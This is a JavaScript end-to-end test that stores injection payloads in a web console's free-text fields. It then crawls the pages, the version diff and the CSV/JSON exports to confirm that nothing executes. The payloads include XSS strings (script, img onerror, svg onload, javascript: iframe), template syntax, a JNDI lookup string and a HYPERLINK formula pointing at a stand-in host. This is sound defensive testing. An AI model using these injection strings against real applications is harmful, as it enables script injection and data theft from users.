// End-to-end: hostile data. HTML, script, `javascript:` URLs, template syntax, a spreadsheet
// formula and bidi controls are stored through the API in every free-text field of a project
// (descriptions, a config's content and its second version), then every list, detail, edit and
// create page reachable from the navigation is visited, plus the version diff and the exports:
// nothing runs, no element is injected, no link has a `javascript:` target, and the text is shown
// as text.
import { test } from "node:test";
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { openPage, unique, freshProject, BASE_URL, visit, links } from "./browser.mjs";

// Each payload sets `window.__pwned` or adds `#injected` if it is ever run or parsed as HTML.
// At most 128 characters: the shortest description limit.
const PAYLOAD = `<img src=x onerror=__pwned=1><script>__pwned=2</script><b id=injected>b</b>{{7*7}}\u202Etxt.exe`;
const LINKISH = "javascript:__pwned=3//";
const FORMULA = '=HYPERLINK("http://example.invalid","x")';
const CONTENT = [`greeting=${PAYLOAD}`, `home=${LINKISH}`, `sheet=${FORMULA}`, "${jndi:ldap://example.invalid/a}", "<svg onload=__pwned=4>"].join("\n");

async function api(project, method, path, body) {
  const r = await fetch(`${BASE_URL}/v3/${project}/cas/${path}`, {
    method,
    headers: { "Content-Type": "application/json", "X-Auth-Token": "sandbox-demo-token" },
    body: body && JSON.stringify(body),
  });
  const text = await r.text();
  assert.ok(r.ok, `${method} ${path}: HTTP ${r.status} ${text}`);
  return text ? JSON.parse(text) : {};
}

/** Follows a link the way a user does, then checks that nothing hostile happened. */
async function visitAndCheck(page, path) {
  await visit(page, path);
  await assertClean(page, path);
}

async function assertClean(page, where) {
  const found = await page.evaluate(() => ({
    pwned: window.__pwned ?? null,
    injected: document.querySelectorAll("#injected, main script, main img[src=x], main svg[onload]").length,
    jsLinks: [...document.querySelectorAll("a[href], area[href], iframe[src], form[action]")]
      .map((e) => e.getAttribute("href") ?? e.getAttribute("src") ?? e.getAttribute("action"))
      .filter((h) => /^\s*javascript:/i.test(h)),
  }));
  assert.deepEqual(found, { pwned: null, injected: 0, jsLinks: [] }, `on ${where}`);
}

test("hostile text in every free-text field is shown as text on every page, in the diff and in the exports", async (t) => {
  const project = freshProject("hostile");
  await api(project, "POST", "environments", { name: unique("hostile-env"), deploy_mode: "container", vpc_id: "0c72428b-cd6c-4283-a560-210d3edb49f7", description: PAYLOAD });
  await api(project, "POST", "applications", { name: unique("hostile-app"), description: PAYLOAD });
  await api(project, "POST", "applications", { name: unique("formula-app"), description: FORMULA });
  const group = await api(project, "POST", "config-groups", { name: unique("hostile-group"), description: PAYLOAD });
  const config = await api(project, "POST", "configs", { config_group_id: group.id, name: unique("hostile-conf"), type: "properties", content: CONTENT, description: PAYLOAD.slice(0, 128), sensitive: false });
  await api(project, "PUT", `configs/${config.id}`, { config_group_id: group.id, type: "properties", content: `${CONTENT}\nadded=<iframe src=javascript:__pwned=5>`, description: LINKISH });

  const { page, errors } = await openPage(t, "/servicestage/environments", { project });
  await page.getByRole("table", { name: "Environments" }).waitFor();
  // The payload is there, as text.
  const row = page.getByRole("row").filter({ hasText: "<b id=injected>" }).first();
  await row.waitFor();
  await assertClean(page, "the environments list");

  // Every list the navigation offers, and each one's create, detail and edit pages; nested
  // lists found on detail pages too.
  const isList = /^\/[a-z0-9-]+\/[a-z0-9-]+(\?.*)?$/;
  const queue = (await links(page, isList)).filter((h) => !h.startsWith("/explorer/"));
  const listed = new Set(queue.map((h) => h.split("?")[0]));
  let visited = 0;
  while (queue.length > 0) {
    const list = queue.shift();
    await visitAndCheck(page, list);
    visited += 1;
    const base = list.split("?")[0];
    const below = await links(page, new RegExp(`^${base}/[^/?]+$`));
    for (const next of below.slice(0, 3)) {
      await visitAndCheck(page, next);
      visited += 1;
      if (next.endsWith("/new")) continue;
      for (const nested of await links(page, isList)) {
        if (!nested.startsWith("/explorer/") && !listed.has(nested.split("?")[0])) {
          listed.add(nested.split("?")[0]);
          queue.push(nested);
        }
      }
      const edit = (await links(page, new RegExp(`^${next}/edit$`)))[0];
      if (edit) {
        await visitAndCheck(page, edit);
        visited += 1;
      }
    }
  }
  t.diagnostic(`${visited} pages visited`);
  assert.ok(visited > 20, `every page kind was visited (${visited})`);

  // The config's detail page shows its hostile content as text, and its two versions compare.
  await page.goto(`${BASE_URL}/servicestage/configs/${config.id}`);
  await page.getByRole("heading", { name: new RegExp(config.name) }).waitFor();
  assert.match(await page.locator("main").innerText(), /<svg onload=__pwned=4>/);
  await page.getByRole("tab", { name: "Config history" }).click();
  const diff = page.getByTestId("diff");
  await diff.waitFor();
  assert.match(await diff.locator(".added").allTextContents().then((l) => l.join("")), /<iframe src=javascript:__pwned=5>/);
  await assertClean(page, "the config's version diff");

  // Exports: the raw text, and no formula a spreadsheet would run.
  await page.goto(`${BASE_URL}/servicestage/applications`);
  await page.getByRole("row").filter({ hasText: "<script>" }).first().waitFor();
  const [csvDownload] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Export CSV" }).click()]);
  const csv = readFileSync(await csvDownload.path(), "utf8");
  assert.ok(csv.includes("<script>__pwned=2</script>"), "the CSV holds the text as it is");
  assert.ok(csv.includes(`"'=HYPERLINK(""http://example.invalid""`), "a formula is defused with a leading quote");
  assert.match(csv.split("\r\n")[0], /^Name,/, "the shown CSV has the columns' names");
  const [rawDownload] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Raw CSV" }).click()]);
  const raw = readFileSync(await rawDownload.path(), "utf8");
  assert.match(raw.split("\r\n")[0], /^name,/, "the raw CSV has the fields' names");
  assert.ok(raw.includes("<script>__pwned=2</script>") && raw.includes(`"'=HYPERLINK(""http://example.invalid""`), "raw values, defused alike");
  const [jsonDownload] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Export JSON" }).click()]);
  assert.ok(JSON.parse(readFileSync(await jsonDownload.path(), "utf8")).some((a) => a.description === PAYLOAD));
  await assertClean(page, "the applications list after its exports");
  assert.deepEqual(errors.filter((e) => !/Failed to load resource/.test(e)), []);
});
